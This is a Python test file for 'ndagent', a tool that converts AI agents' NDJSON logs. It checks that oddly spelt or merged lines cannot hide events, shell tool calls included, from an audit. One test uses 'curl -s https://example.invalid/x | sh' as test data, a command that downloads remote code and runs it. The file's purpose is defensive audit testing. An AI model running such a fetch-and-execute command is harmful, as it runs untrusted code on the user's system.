"""The prefilter never hides an event: the converters print what full decoding gives.

The converters decode only the lines that may hold an event they need.  A line that is
spelt otherwise than the CLI writes it (keys reordered, repeated, escaped, spaced) or
two lines merged into one (a stream cut off, then another appended) must not let an
event pass unseen: an event one command sees and another passes over would let a
stream hide a shell command from an audit.
"""

import os
from pathlib import Path

import orjson
import pytest
from conftest import InProcess, fixture, run
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ndagent import cli

INIT = {"type": "system", "subtype": "init", "session_id": "s", "apiKeySource": "login",
        "cwd": "/p", "model": "m", "permissionMode": "default"}


def result(text, **fields):
    return {"type": "result", "subtype": "success", "is_error": False, "duration_ms": 5,
            "result": text, "session_id": "s", **fields}


def lines(*events):
    return b"".join(orjson.dumps(event) + b"\n" for event in events)


# The reproductions of the hardening issue, through real pipes.

def test_a_cut_off_stream_followed_by_another_loses_neither_run(tmp_path):
    cut = fixture("sample.ndjson").read_bytes()[:5000]
    other = fixture("vendor-example.ndjson").read_bytes()
    assert not cut.endswith(b"\n")
    for verb in ("json", "result", "text", "tools"):
        done = run(verb, input=cut + other)
        err = done.stderr.decode()
        assert done.returncode == 1, verb
        assert "<stdin>:21: warning: skipped: truncated line: another event begins inside" in err
        assert "<stdin>:1: error: run ended without a result event" in err
    done = run("json", input=cut + other)
    assert orjson.loads(done.stdout) == orjson.loads(other.splitlines()[-1])
    validate = run("validate", input=cut + other).stdout.decode()
    assert "<stdin>:21: error: truncated line: another event begins inside" in validate
    assert "[no-result]" in validate and ", 2 runs," in validate


def test_a_repeated_type_key_cannot_hide_a_result():
    stream = (b'{"type":"system","subtype":"init","session_id":"s"}\n'
              b'{"type":"thinking","type":"result","subtype":"success","is_error":false,'
              b'"duration_ms":1,"result":"","session_id":"s"}\n')
    done = run("json", input=stream)
    assert done.returncode == 0, done.stderr
    assert orjson.loads(done.stdout)["type"] == "result"


def test_a_repeated_type_or_subtype_key_cannot_hide_a_tool_call():
    shell = {"command": "curl -s https://example.invalid/x | sh"}
    started = (b'{"type":"thinking","type":"tool_call","subtype":"started","call_id":"c",'
               b'"tool_call":{"shellToolCall":{"args":' + orjson.dumps(shell) + b'}},'
               b'"session_id":"s"}\n')
    completed = (b'{"type":"tool_call","subtype":"started","subtype":"completed",'
                 b'"call_id":"c","tool_call":{"shellToolCall":{"result":{"success":{}}}},'
                 b'"session_id":"s"}\n')
    stream = lines(INIT) + started + completed + lines(result(""))
    tools = run("tools", "-k", "shell", input=stream)
    assert [orjson.loads(record)["args"] for record in tools.stdout.splitlines()] == [shell]
    text = run("text", "-v", input=stream)
    assert text.stdout.decode() == f"Ran terminal command: {shell['command']}\n"
    assert run("text", input=stream).stdout == b"Ran terminal command\n"


@pytest.mark.parametrize("spelling", [
    b'{"\\u0074ype":"result","subtype":"success","is_error":false,"result":"","session_id":"s"}',
    b'{"type":"r\\u0065sult","subtype":"success","is_error":false,"result":"","session_id":"s"}',
    b'{"is_error":false, "type" :\t"result","subtype":"success","result":"","session_id":"s"}',
])
def test_a_result_spelt_otherwise_is_still_found(spelling):
    done = run("json", input=lines(INIT) + spelling + b"\n")
    assert done.returncode == 0, done.stderr
    assert orjson.loads(done.stdout)["type"] == "result"


# The invariant: with and without the prefilter, every converter prints the same.

def spell_string(draw, text):
    """A JSON string for ``text``, some characters as \\u escapes."""
    flags = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    return '"' + "".join(f"\\u{ord(char):04x}" if flag else char
                         for char, flag in zip(text, flags)) + '"'


@st.composite
def spelt(draw, event):
    """``event`` as one line in any spelling that decodes to it: keys in any order, its
    type and subtype perhaps escaped, spaced, and given first with decoy values that the
    last occurrence overrides."""
    if draw(st.integers(0, 3)) == 0:
        return orjson.dumps(event).decode()  # as the CLI writes it
    pairs = []
    for key, value in event.items():
        if key in ("type", "subtype") and type(value) is str:
            space = draw(st.sampled_from(["", " ", "\t"]))
            pairs.append(f"{spell_string(draw, key)}{space}:{space}{spell_string(draw, value)}")
        else:
            pairs.append(orjson.dumps(key).decode() + ":" + orjson.dumps(value).decode())
    pairs = draw(st.permutations(pairs))
    decoys = [f'"{key}":"{draw(st.sampled_from(["result", "system", "thinking", "tool_call", "completed", "started", "init"]))}"'  # noqa: E501
              for key in ("type", "subtype") if key in event and draw(st.booleans())]
    return "{" + ",".join([*decoys, *pairs]) + "}"


@st.composite
def runs(draw):
    """Runs of a stream as events: prompts, answers, tool calls of several kinds and
    outcomes (some never completed), thinking, results (some missing)."""
    events = []
    for _ in range(draw(st.integers(1, 3))):
        events.append(INIT)
        answer = []
        for index in range(draw(st.integers(0, 5))):
            step = draw(st.sampled_from(["text", "call", "open-call", "thinking"]))
            if step == "text":
                text = draw(st.sampled_from(["Hello", " world", "\n", "result"]))
                answer.append(text)
                events.append({"type": "assistant", "message": {
                    "role": "assistant", "content": [{"type": "text", "text": text}]},
                    "session_id": "s"})
            elif step == "thinking":
                events.append({"type": "thinking", "subtype": "delta", "text": "result",
                               "session_id": "s"})
            else:
                kind = draw(st.sampled_from(["shellToolCall", "readToolCall", "mcpToolCall"]))
                args = {"command": "ls", "path": "/p/a", "name": "srv-tool"}
                call = f"call-{len(events)}-{index}"
                events.append({"type": "tool_call", "subtype": "started", "call_id": call,
                               "tool_call": {kind: {"args": args}}, "session_id": "s",
                               "timestamp_ms": 10})
                if step == "call":
                    outcome = draw(st.sampled_from(["success", "failure", "rejected"]))
                    events.append({"type": "tool_call", "subtype": "completed",
                                   "call_id": call, "session_id": "s", "timestamp_ms": 15,
                                   "tool_call": {kind: {"args": args,
                                                        "result": {outcome: {}}}}})
        if draw(st.booleans()):
            events.append(result("".join(answer)))
    return events


@st.composite
def streams(draw):
    """A stream of runs, its lines spelt in any way, some merged: two lines with the
    newline between them lost, or a line cut off and the next appended to it."""
    out = [draw(spelt(event)) for event in draw(runs())]
    for _ in range(draw(st.integers(0, 2))):
        if len(out) > 1:
            at = draw(st.integers(0, len(out) - 2))
            cut = draw(st.integers(1, len(out[at]))) if draw(st.booleans()) else len(out[at])
            out[at:at + 2] = [out[at][:cut] + out[at + 1]]
    return ("\n".join(out) + "\n").encode()


CONVERTERS = [("json",), ("result",), ("result", "--from-result"), ("text",),
              ("text", "-v"), ("text", "--final"), ("tools",), ("tools", "--format", "tsv")]
in_process = InProcess()


# Few examples here, many under 'make fuzz' (NDAGENT_EXAMPLES).
EXAMPLES = settings(max_examples=int(os.environ.get("NDAGENT_EXAMPLES", "40")), deadline=None,
                    suppress_health_check=list(HealthCheck), database=None)


@EXAMPLES
@given(streams())
def test_property_every_converter_prints_the_same_with_and_without_the_prefilter(stream):
    for verb, *options in CONVERTERS:
        with_prefilter = in_process(verb, stream, *options)
        cli.Command.prefilter = False
        try:
            plain = in_process(verb, stream, *options)
        finally:
            cli.Command.prefilter = True
        # Output and status; warnings may differ: the prefilter does not read what it
        # passes over, so damage inside such a line goes unreported (README).
        assert with_prefilter[:2] == plain[:2], (verb, *options)


# The two-process path: a large regular file's second half scanned by a child.

PARALLEL_CASES = CONVERTERS + [("text", "-v", "--strict")]


def outputs(verb, path, options, parallel, part=0.5):
    """(status, stdout, stderr) of a command on a file, with or without the two-process
    path (every file counts as large, or none does; the child's part begins at the
    first line from ``part`` of the file).  Every child started must have sent its
    record: one that failed would leave its part to the parent, which gives the same
    output and so would hide that the path is not taken.  ``outputs.children``: how
    many were started."""
    from ndagent import decoder

    saved = decoder.PARALLEL_FROM, decoder.WARM_UP, decoder.SHARES
    start, of = decoder._SecondHalf._start, vars(decoder._SecondHalf)["of"]
    halves = []  # those whose child was started
    selected = []  # files read with a selection (the others: every line decoded)

    def watched_start(half, begin):
        started = start(half, begin)
        if started:
            halves.append(half)
        return started

    def watched_of(fd, *rest):
        selected.append(fd)
        return of.__func__(decoder._SecondHalf, fd, *rest)

    decoder.PARALLEL_FROM = 1 if parallel else 1 << 62
    decoder.WARM_UP, decoder.SHARES = 0, (part, part)
    decoder._SecondHalf._start, decoder._SecondHalf.of = watched_start, watched_of
    try:
        return in_process(verb, b"", *options, path)
    finally:
        decoder.PARALLEL_FROM, decoder.WARM_UP, decoder.SHARES = saved
        decoder._SecondHalf._start, decoder._SecondHalf.of = start, of
        outputs.children, outputs.selected = len(halves), bool(selected)
        assert all(half.whole for half in halves), (
            "a child's record was not read to its end: the parent read the part")


def children_started():
    """Whether the last ``outputs`` started a child, as it must on a stream of many lines
    read with a selection (where every line is decoded, as with --strict: one process)."""
    return outputs.children > 0 or not outputs.selected


# Each example forks a child for every command: a tenth of the examples of the others.
@settings(EXAMPLES, max_examples=max(EXAMPLES.max_examples // 10, 20))
@given(streams(), st.floats(0.01, 0.99))
def test_property_two_processes_print_what_one_prints(stream, part):
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:  # no fixture: 'make fuzz' calls it too
        path = Path(folder) / "run.ndjson"
        path.write_bytes(stream)
        for verb, *options in PARALLEL_CASES:
            two = outputs(verb, path, options, True, part)
            newline = stream.find(b"\n", int(len(stream) * part))  # the child's part after it
            assert children_started() or not 0 <= newline < len(stream) - 1
            assert two == outputs(verb, path, options, False), (verb, *options)


def test_two_processes_print_what_one_prints_on_the_bench_stream(tmp_path):
    import sys
    from pathlib import Path

    sys.path.insert(0, str(Path(__file__).parent / "bench"))
    from generate import generate

    path = tmp_path / "bench.ndjson"
    generate(path, 3, seed=7)
    # A stream cut off and another appended, a bad line, a line without a newline.
    data = path.read_bytes()
    path.write_bytes(data[:len(data) // 3] + b"\nnot json\n" + data[len(data) // 3 + 50:]
                     + b'{"type":"result"')
    for verb, *options in PARALLEL_CASES:
        one = outputs(verb, path, options, False)
        assert one[1], (verb, *options)
        assert outputs(verb, path, options, True) == one, (verb, *options)
        assert children_started()


TESTS = Path(__file__).resolve().parent
SMALL_INPUTS = sorted([*TESTS.glob("fixtures/*.ndjson"), *TESTS.glob("golden/*/*/input.ndjson")])


@pytest.mark.parametrize("path", SMALL_INPUTS, ids=lambda path: str(path.relative_to(TESTS)))
def test_two_processes_print_what_one_prints_on_every_fixture(path):
    """Every fixture and golden input of every agent, as a file large enough for two
    processes: the same status, output and messages."""
    for verb, *options in PARALLEL_CASES:
        assert outputs(verb, path, options, True) == outputs(verb, path, options, False), (
            verb, *options)


@pytest.mark.parametrize("agent", ["claude", "codex", "gemini"])
def test_two_processes_print_what_one_prints_on_the_other_agents_bench_streams(agent,
                                                                               tmp_path):
    import sys

    sys.path.insert(0, str(TESTS / "bench"))
    from generate import generate

    path = tmp_path / f"bench-{agent}.ndjson"
    generate(path, 1, seed=7, agent=agent)
    printed = False
    for verb, *options in PARALLEL_CASES:
        one = outputs(verb, path, options, False)
        printed = printed or bool(one[1])
        assert outputs(verb, path, options, True) == one, (verb, *options)
        assert children_started()
    assert printed


def test_the_child_s_part_chosen_from_the_first_bytes_gives_what_one_process_gives(
        tmp_path, monkeypatch):
    """With a warm-up (the parent times the child's work and its own on the first
    bytes, then chooses where the child's part begins), as on large files."""
    import sys

    from ndagent import decoder

    sys.path.insert(0, str(TESTS / "bench"))
    from generate import generate

    path = tmp_path / "bench.ndjson"
    generate(path, 1, seed=3)
    timed, started = [], []
    start = decoder._SecondHalf._start
    monkeypatch.setattr(decoder, "share", lambda scan, work: timed.append((scan, work)) or 0.3)
    monkeypatch.setattr(decoder._SecondHalf, "_start",
                        lambda half, begin: started.append(start(half, begin)) or started[-1])
    monkeypatch.setattr(decoder, "WARM_UP", 32 << 10)
    for verb, *options in CONVERTERS:
        one = outputs(verb, path, options, False)
        monkeypatch.setattr(decoder, "PARALLEL_FROM", 1)
        assert in_process(verb, b"", *options, path) == one, (verb, *options)
    assert started == [True] * len(CONVERTERS)
    assert all(scan > 0 and work > 0 for scan, work in timed)


@pytest.mark.parametrize("scan, work, part", [
    (1.0, 1.0, 0.5),  # nothing to do but scan: halves
    (1.0, 1.5, 0.25),  # the command's work is half the scan: a quarter for the parent
    (1.0, 2.0, 0.0),  # as much as the scan: the child keeps ahead from the start
    (1.0, 100.0, 0.0),
    (0.0, 0.0, 0.5),  # too quick to time
])
def test_the_parent_s_share_keeps_the_child_ahead_to_the_end(scan, work, part):
    from ndagent.decoder import share

    assert share(scan, work) == pytest.approx(part)


@pytest.mark.parametrize("sent", [0, 1, 3])
def test_a_child_that_fails_leaves_the_rest_of_its_part_to_the_parent(sent, tmp_path,
                                                                      monkeypatch):
    """A child that fails after sending some batches of its record (here: a message it
    cannot send): the parent reads the rest of the part from the first batch missing,
    with the same output."""
    import sys

    from ndagent import decoder

    sys.path.insert(0, str(TESTS / "bench"))
    from generate import generate

    path = tmp_path / "bench.ndjson"
    generate(path, 2, seed=5)
    send, halves = decoder._send_message, []

    def failing(fd, data):
        if failing.left == 0:
            raise OSError("no room")
        failing.left -= 1
        send(fd, data)

    start = decoder._SecondHalf._start
    monkeypatch.setattr(decoder._SecondHalf, "_start",
                        lambda half, begin: start(half, begin) and not halves.append(half))
    monkeypatch.setattr(decoder, "_send_message", failing)
    for verb, *options in PARALLEL_CASES:
        one = outputs(verb, path, options, False)
        failing.left = sent
        monkeypatch.setattr(decoder, "PARALLEL_FROM", 1)
        monkeypatch.setattr(decoder, "WARM_UP", 0)
        assert in_process(verb, b"", *options, path) == one, (verb, *options)
        monkeypatch.setattr(decoder, "PARALLEL_FROM", 1 << 62)
    assert halves and all(half.whole is False for half in halves)


@pytest.mark.parametrize("part", [0.1, 0.35, 0.6, 0.85])
def test_a_line_too_long_is_quoted_alike_by_one_process_and_two(part, tmp_path):
    """A line over --max-line is quoted from its first bytes however the reads cut it,
    and the child's reads begin where its part does."""
    vendor = fixture("vendor-example.ndjson").read_bytes()
    lines = []
    for n in range(40):
        lines.append(b'{"type":"assistant","pad":"' + b"p" * (37 * n % 300) + b'"}\n')
        lines.append(b'{"type":"assistant","long":"' + b"L" * (1100 + 97 * n) + b'"}\n')
    path = tmp_path / "run.ndjson"
    path.write_bytes(vendor + b"".join(lines) + vendor)
    for verb, *options in PARALLEL_CASES:
        options = [*options, "--max-line", "1K"]
        one = outputs(verb, path, options, False)
        assert b"passed over" in one[2]
        assert outputs(verb, path, options, True, part) == one, (verb, *options)


def test_with_no_room_for_a_child_one_process_reads_the_file(tmp_path, monkeypatch):
    path = tmp_path / "run.ndjson"
    path.write_bytes(fixture("vendor-example.ndjson").read_bytes() * 20)
    one = outputs("result", path, [], False)

    def no_room():
        raise BlockingIOError(11, "Resource temporarily unavailable")

    monkeypatch.setattr(os, "fork", no_room)
    assert outputs("result", path, [], True) == one
    assert outputs.children == 0


def test_what_is_written_to_the_file_while_it_is_read_is_read_as_by_one_process(
        tmp_path, monkeypatch):
    """A log still being written: the last line, ended meanwhile, and the lines
    written after it are read (by the parent, once the child's part is done)."""
    from ndagent import decoder

    vendor = fixture("vendor-example.ndjson").read_bytes()
    path = tmp_path / "run.ndjson"
    path.write_bytes(vendor * 20 + vendor[:-40])  # the last line still being written
    start = decoder._SecondHalf._start

    def start_then_write(half, begin):
        started = start(half, begin)
        with open(path, "ab") as log:
            log.write(vendor[-40:] + vendor)
        return started

    monkeypatch.setattr(decoder._SecondHalf, "_start", start_then_write)
    two = outputs("text", path, ["-v"], True)
    assert outputs.children == 1
    monkeypatch.undo()
    assert two == outputs("text", path, ["-v"], False)


def test_a_part_that_cannot_be_read_again_after_the_child_failed_is_told(tmp_path,
                                                                        monkeypatch):
    """The child fails, and reading its part again fails inside a batch it had sent:
    the failure is told (Unreadable), not dropped with the batch."""
    from ndagent import decoder

    path = tmp_path / "run.ndjson"
    path.write_bytes(b'{"type":"a","x":1}\n' * 400)
    send, second_reader, parent = decoder._send_message, decoder._SecondHalf._second_reader, \
        os.getpid()

    def failing(fd, data):
        failing.left -= 1
        if failing.left < 0:
            raise OSError("no room")
        send(fd, data)

    def reader(half):
        read, reads = second_reader(half), []

        def failing_read(size):
            reads.append(size)
            if len(reads) == 2 and os.getpid() == parent:
                raise OSError(5, "Input/output error")
            return read(size)
        return failing_read

    failing.left = 5
    monkeypatch.setattr(decoder, "_send_message", failing)
    monkeypatch.setattr(decoder._SecondHalf, "_second_reader", reader)
    monkeypatch.setattr(decoder, "PARALLEL_FROM", 1)
    monkeypatch.setattr(decoder, "WARM_UP", 0)
    items = [item for batch in decoder.batches([str(path)], decoder.Selection(
        ((("type", "b"),),)), chunk_size=256) for item in batch]
    assert any(item.__class__ is decoder.Unreadable for item in items)
